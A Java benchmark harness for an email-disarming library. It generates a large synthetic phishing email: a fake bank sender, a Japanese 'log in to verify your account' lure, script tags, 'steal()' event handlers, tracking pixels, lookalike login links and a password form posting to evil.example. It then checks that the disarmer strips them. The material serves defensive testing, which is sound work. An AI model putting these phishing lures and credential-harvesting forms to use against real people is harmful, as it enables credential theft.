package io.mamori.core.verdict;

import java.io.BufferedOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.OutputStreamWriter;
import java.io.Writer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Locale;
import org.apache.james.mime4j.codec.Base64InputStream;
import org.apache.james.mime4j.codec.Base64OutputStream;
import org.apache.james.mime4j.codec.DecodeMonitor;
import org.apache.james.mime4j.parser.AbstractContentHandler;
import org.apache.james.mime4j.parser.MimeStreamParser;
import org.apache.james.mime4j.stream.BodyDescriptor;
import org.apache.james.mime4j.stream.MimeConfig;

/**
 * Disarms one HTML message of a given size in this JVM, so that a test (and {@code bench/disarm-big.sh}) can run it
 * in a JVM with a small heap: writes the message (a UTF-8 HTML part, base64, full of scripts, event handlers,
 * forms, remote images, links and Japanese text) to a file while generating it, disarms it file to file, then
 * reads the result back while streaming and prints what it found, one {@code key=value} per line:
 * {@code input_bytes}, {@code output_bytes}, {@code seconds}, {@code html_chars}, {@code scripts} (script tags
 * left: must be 0), {@code handlers} (on… attributes left: 0), {@code forms}, {@code remote_images},
 * {@code defanged_links}, {@code japanese} (blocks whose Japanese sentence survived) and {@code blocks}.
 *
 * <p>Usage: {@code BigHtmlDisarm DIR MEGABYTES}.
 */
public final class BigHtmlDisarm {

    static final String JAPANESE = "お客様のアカウントを確認するため、下記のリンクからログインしてください。";

    private BigHtmlDisarm() {
    }

    public static void main(String[] args) throws Exception {
        Path dir = Path.of(args[0]);
        long bytes = Long.parseLong(args[1]) * 1024 * 1024;
        Path in = dir.resolve("big.eml");
        Path out = dir.resolve("big-disarmed.eml");
        long blocks = write(in, bytes);
        long start = System.nanoTime();
        try (InputStream raw = Files.newInputStream(in);
                OutputStream disarmed = new BufferedOutputStream(Files.newOutputStream(out), 64 * 1024)) {
            new MessageRewriter(dir).rewrite(raw, disarmed, MessageRewriter.Plan.NONE.disarming(false, true));
        }
        double seconds = (System.nanoTime() - start) / 1e9;
        Counts c = count(out);
        System.out.printf(Locale.ROOT, "input_bytes=%d%noutput_bytes=%d%nseconds=%.2f%nhtml_chars=%d%nscripts=%d%n"
                        + "handlers=%d%nforms=%d%nremote_images=%d%ndefanged_links=%d%njapanese=%d%nblocks=%d%n"
                        + "max_heap_mb=%d%n",
                Files.size(in), Files.size(out), seconds, c.chars, c.scripts, c.handlers, c.forms, c.remoteImages,
                c.defanged, c.japanese, blocks, Runtime.getRuntime().maxMemory() / (1024 * 1024));
    }

    /** Writes the message; returns how many HTML blocks it holds. */
    static long write(Path file, long size) throws IOException {
        long blocks = 0;
        try (OutputStream raw = new BufferedOutputStream(Files.newOutputStream(file), 64 * 1024)) {
            raw.write(("From: support@bank.example\r\nTo: sato@example.co.jp\r\nSubject: big\r\nMIME-Version: 1.0\r\n"
                    + "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n")
                    .getBytes(StandardCharsets.US_ASCII));
            OutputStream b64 = new Base64OutputStream(new NonClosing(raw));
            try (Writer html = new OutputStreamWriter(b64, StandardCharsets.UTF_8)) {
                html.write("<html><head><title>big</title><style>p{color:red}</style></head><body onload=\"go()\">\n");
                long written = 200;
                while (written < size * 3 / 4) {
                    String block = "<div class=\"b\"><p onclick=\"steal(" + blocks + ")\">" + JAPANESE + " #" + blocks
                            + "</p><script>document.write('<img src=http://t.example/" + blocks + ".gif>')</script>"
                            + "<a href=\"https://login" + blocks % 97 + ".example.com/verify?id=" + blocks
                            + "\" onmouseover=\"x()\">ログイン</a> <img src=\"http://track.example/" + blocks
                            + ".gif\" width=1 height=1><form action=\"https://evil.example/p\"><input name=pw"
                            + " type=password><button>送信</button></form><table><tr><td>cell</td></tr></table></div>\n";
                    html.write(block);
                    written += block.getBytes(StandardCharsets.UTF_8).length;
                    blocks++;
                }
                html.write("</body></html>\n");
            }
            raw.write("\r\n".getBytes(StandardCharsets.US_ASCII));
        }
        return blocks;
    }

    private static final class Counts {
        long chars;
        long scripts;
        long handlers;
        long forms;
        long remoteImages;
        long defanged;
        long japanese;
    }

    /** Reads the disarmed message while streaming and counts what is left in its HTML. */
    private static Counts count(Path file) throws Exception {
        Counts c = new Counts();
        MimeStreamParser parser = new MimeStreamParser(MimeConfig.custom().setMaxLineLen(-1).setMaxContentLen(-1).build());
        parser.setContentDecoding(false);
        parser.setContentHandler(new AbstractContentHandler() {
            @Override
            public void body(BodyDescriptor bd, InputStream is) throws IOException {
                if (!bd.getMimeType().equals("text/html")) {
                    return;
                }
                InputStream decoded = "base64".equalsIgnoreCase(bd.getTransferEncoding())
                        ? new Base64InputStream(is, DecodeMonitor.SILENT)
                        : new org.apache.james.mime4j.codec.QuotedPrintableInputStream(is, DecodeMonitor.SILENT);
                try (var reader = new java.io.BufferedReader(new java.io.InputStreamReader(decoded, StandardCharsets.UTF_8))) {
                    String tail = "";
                    char[] buf = new char[64 * 1024];
                    for (int n; (n = reader.read(buf)) >= 0; ) {
                        String chunk = tail + new String(buf, 0, n);
                        String lower = chunk.toLowerCase(Locale.ROOT);
                        c.scripts += occurrences(lower, "<script", tail.length());
                        c.handlers += occurrences(lower, " onclick=", tail.length()) + occurrences(lower, " onload=", tail.length())
                                + occurrences(lower, " onmouseover=", tail.length());
                        c.forms += occurrences(lower, "<form", tail.length()) + occurrences(lower, "<input", tail.length());
                        c.remoteImages += occurrences(lower, "src=\"http", tail.length());
                        c.defanged += occurrences(chunk, "[hxxps://login", tail.length());
                        c.japanese += occurrences(chunk, JAPANESE, tail.length());
                        c.chars += n;
                        tail = chunk.substring(Math.max(0, chunk.length() - 200));
                    }
                }
            }
        });
        try (InputStream in = Files.newInputStream(file)) {
            parser.parse(in);
        }
        return c;
    }

    /** Occurrences of {@code needle} that end after {@code skip} (so the overlap kept from the last chunk counts once). */
    private static long occurrences(String hay, String needle, int skip) {
        long n = 0;
        for (int i = hay.indexOf(needle); i >= 0; i = hay.indexOf(needle, i + 1)) {
            if (i + needle.length() > skip) {
                n++;
            }
        }
        return n;
    }

    private static final class NonClosing extends java.io.FilterOutputStream {
        NonClosing(OutputStream out) {
            super(out);
        }

        @Override
        public void write(byte[] b, int off, int len) throws IOException {
            out.write(b, off, len);
        }

        @Override
        public void close() throws IOException {
            flush();
        }
    }
}
